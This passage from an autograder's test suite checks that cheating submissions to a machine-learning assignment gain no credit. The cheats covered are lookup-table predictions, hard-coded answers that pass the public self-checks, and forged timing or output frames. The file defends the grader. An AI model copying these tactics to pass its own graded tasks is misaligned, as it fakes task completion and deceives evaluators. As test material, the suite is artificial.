                if state == "Z":              # not a process here, or killed and waiting to be reaped
                    continue
                try:
                    with open(f"/proc/{uid - UID_BASE}/cmdline", "rb") as f:
                        jail = f.read().decode("utf-8", "replace")
                except OSError:
                    jail = ""                 # its jail is gone
                if "jail.py" not in jail or str(grader.directory) in jail:
                    found.append(int(entry))
            except OSError:
                pass
        return found

    deadline = time.monotonic() + 10          # SIGKILLed processes take a moment to go
    while leftovers() and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not leftovers(), leftovers()


def test_the_lookup_gains_nothing(results):
    """The lookup works on every image the sandbox has (its cell asserts 100 % on the visible test half and
    ran without error), yet the accuracy part scores 0: over the trained MLP, the model's own output is not
    what its MLP weights compute (the grader's forward pass decides); alone, it has no MLP weights at all.
    The hidden half never enters the sandbox. The other parts of the question keep their points."""
    over = results["mnist_lookup_over_trained_model"]
    alone = results["mnist_lookup_only"]
    for r, why in ((over, "一致しません"), (alone, "784-256-128-10 の MLP")):
        assert all(c["status"] == "ok" for c in r["cells"]), [c for c in r["cells"] if c["status"] != "ok"]
        mlp = r["questions"]["mlp"]
        assert mlp["parts"]["accuracy"]["score"] == 0.0, mlp
        assert "mnist_accuracy" not in r["measurements"], r["measurements"]
        assert any(why in c["message"] for c in mlp["checks"] if c["part"] == "accuracy"), mlp["checks"]
    for part in ("get_device", "MLP", "evaluate", "train_one_epoch"):
        assert over["questions"]["mlp"]["parts"][part]["score"] > 0, over["questions"]["mlp"]


def test_the_public_value_cheat_passes_the_public_self_checks():
    """The hard-coded answers are a credible attempt: they pass every public self-check they target."""
    import importlib.util

    import numpy as np
    from otter.test_files import test_case

    namespace = {"np": np}
    for source in PUBLIC_VALUES.values():
        exec(nv._clean(source), namespace)
    namespace["predict"] = lambda x, w, b: w * np.asarray(x, dtype=float) + b
    for question in ("normal_equation", "loss", "metrics"):
        spec = importlib.util.spec_from_file_location(f"_public_{question}", assignment.current().public_tests_dir / f"{question}.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        cases = [v for v in vars(module).values() if isinstance(v, test_case)]
        assert cases
        for case in cases:
            case.test_func(**{p: namespace[p] for p in case.test_func.__code__.co_varnames[
                :case.test_func.__code__.co_argcount]})


def test_forged_timings_do_not_reach_the_measurements(results):
    """measurements.seconds (time spent in the student's code, per question: the class report's "slowest
    question") came from the "seconds" field the child reports: a forged answer frame put infinity there
    (and "Infinity" is not JSON). The grader knows how long it waited; it should not take the child's word."""
    seconds = results["forged_output"]["measurements"]["seconds"]
    assert all(0.0 <= s <= 600.0 for s in seconds.values()), seconds
    json.dumps(results["forged_output"], allow_nan=False)


def test_forged_output_does_not_reach_the_grader_output(results):
    """Nothing the sandbox prints ends up in the result (which is what batch and feedback read)."""
    text = json.dumps(results["forged_output"])
    assert "RESULT" not in text and "All tests passed" not in text
    assert len(json.dumps(results["output_flood"])) < 200_000
